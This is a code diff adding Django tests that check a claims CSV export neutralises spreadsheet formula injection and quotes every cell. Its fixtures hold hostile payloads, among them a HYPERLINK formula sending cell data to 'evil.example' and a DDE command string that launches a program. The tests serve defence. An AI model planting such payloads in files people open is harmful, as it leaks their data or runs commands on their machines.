@@ -8,6 +8,7 @@ from django.core.management import call_command
 from django.db import connection
 from django.http import StreamingHttpResponse
 
+from articles.models import Article
 from claims import exports
 from claims.exports import CSV_COLUMNS
 from claims.services import SourceInput, claim_record_verdict
@@ -195,3 +196,122 @@ def test_claim_records_are_the_same_built_by_postgres_or_by_python(team):
         assert [json.loads(row["json"]) for row in built] == python
     lines = b"".join(exports.jsonl_chunks(exports.Claim.objects.all())).splitlines()
     assert [json.loads(line) for line in lines] == python
+
+
+# Issue 17 item 4: formula injection --------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click").',
+    "+1 more country joined.",
+    "-3.5 percent was the growth.",
+    "@SUM(1+1) is a formula.",
+    "\tTabbed sentence.",
+    "\rCarriage sentence.",
+    "'=already neutral.",
+    "''+twice neutral.",
+    "'plain apostrophe.",
+    "Plain sentence; =1+1, and\t@more.",
+    '=1+2";=1+2.',
+    "평범한 문장이다.",
+]
+
+
+def hostile_claims() -> list:
+    article = make_article(sentences=HOSTILE, outlet="@Outlet")
+    Article.objects.filter(pk=article.pk).update(
+        title="=cmd|' /C calc'!A0", url="+https://news.example/x", language="-ko"
+    )
+    claims = make_claims(article, figures=[{"text": "-3.5", "value": "-3.5", "kind": "number"}])
+    attributions = ["=2+3", "", "'@who", "-the ministry", "the ministry"]
+    for claim, attribution in zip(claims, attributions, strict=False):
+        exports.Claim.objects.filter(pk=claim.pk).update(attribution=attribution)
+    make_claims(make_article(sentences=["An ordinary claim."], outlet="Wire"))
+    return claims
+
+
+def undo(cell: str) -> str:
+    """The README's rule for reading a free-text cell back."""
+    if cell.startswith("'") and cell.lstrip("'")[:1] in exports.FORMULA_STARTS:
+        return cell[1:]
+    return cell
+
+
+FREE_TEXT_SOURCES = {
+    "article_title": "article__title",
+    "article_url": "article__url",
+    "outlet": "article__outlet__name",
+    "language": "article__language",
+    "text": "text",
+    "attribution": "attribution",
+}
+
+
+def test_csv_neutralises_formulas_in_every_free_text_cell(viewer):
+    hostile_claims()
+    data = body_of(viewer.get("/api/v1/export/claims.csv"))
+    rows = read_csv(data)
+    stored = {
+        row["id"]: row
+        for row in exports.Claim.objects.values("id", *FREE_TEXT_SOURCES.values(), "figures")
+    }
+    assert set(exports.FREE_TEXT) == set(FREE_TEXT_SOURCES)
+    assert len(rows) == len(HOSTILE) + 1
+    for row in rows:
+        for column, source in FREE_TEXT_SOURCES.items():
+            cell, original = row[column], stored[int(row["id"])][source] or ""
+            assert cell[:1] not in exports.FORMULA_STARTS, (column, cell)
+            assert undo(cell) == original, (column, cell)
+        # Data, not free text: a number, a time, JSON (a figure's -3.5 inside it), a word.
+        assert float(row["score"]) == 0.5 and row["figures"].startswith("[")
+        assert row["kind"] == "statistical" and row["updated_at"][:2] == "20"
+    texts = {row["text"] for row in rows}
+    assert "'-3.5 percent was the growth." in texts  # a claim's text is text
+    assert "''=already neutral." in texts and "'''+twice neutral." in texts
+    assert "'plain apostrophe." in texts  # no trigger after it: left alone
+    assert "'\tTabbed sentence." in texts and "'\rCarriage sentence." in texts
+    by_text = {row["text"]: row for row in rows}
+    hyperlink = by_text["'" + HOSTILE[0]]
+    assert (hyperlink["article_title"], hyperlink["outlet"]) == ("'=cmd|' /C calc'!A0", "'@Outlet")
+    assert (hyperlink["article_url"], hyperlink["language"]) == ("'+https://news.example/x", "'-ko")
+    assert hyperlink["attribution"] == "'=2+3"
+    assert json.loads(hyperlink["figures"])[0]["value"] == "-3.5"
+    # OWASP's own example, quoted and its quotes doubled.
+    assert b'"\'=1+2"";=1+2."' in data
+
+
+def test_csv_quotes_every_cell_so_no_separator_starts_a_cell(viewer):
+    """Whatever separator a spreadsheet assumes (a comma, a semicolon in much of Europe, a
+    tab), a separator inside a value is inside quotes and starts no cell."""
+    hostile_claims()
+    lines = body_of(viewer.get("/api/v1/export/claims.csv")).decode("utf-8-sig").split("\n")
+    records = [line for line in lines[1:] if line.startswith('"')]
+    assert len(records) == len(HOSTILE) + 1
+    for separator in (",", ";", "\t", "|"):
+        for record in records:
+            cells, cell, quoted = [], "", False
+            for char in record:  # a reader that keeps track of quotes, as spreadsheets do
+                if char == '"':
+                    quoted = not quoted
+                elif char == separator and not quoted:
+                    cells.append(cell)
+                    cell = ""
+                    continue
+                cell += char
+            cells.append(cell)
+            for cell in cells:
+                assert cell.lstrip()[:1] not in exports.FORMULA_STARTS, (separator, cell)
+
+
+def test_hostile_csv_is_the_same_bytes_from_postgres_copy_and_from_python(db):
+    hostile = hostile_claims()
+    # Whole-number scores: PostgreSQL prints 0 and 1 where Python's repr says 0.0 and 1.0.
+    for claim, score in zip(hostile, [0.0, 1.0, 1e-05, 0.1 + 0.2], strict=False):
+        exports.Claim.objects.filter(pk=claim.pk).update(score=score)
+    claims = exports.Claim.objects.all()
+    python = b"".join(exports._python_csv_chunks(claims))
+    assert python.count(b"\n") >= len(HOSTILE) + 1
+    assert b',"0","[' in python and b',"1","[' in python
+    if connection.vendor == "postgresql":
+        assert b"".join(exports._copy_chunks(claims)) == python
+    else:
+        assert b"".join(exports.csv_chunks(claims)) == exports.csv_header() + python
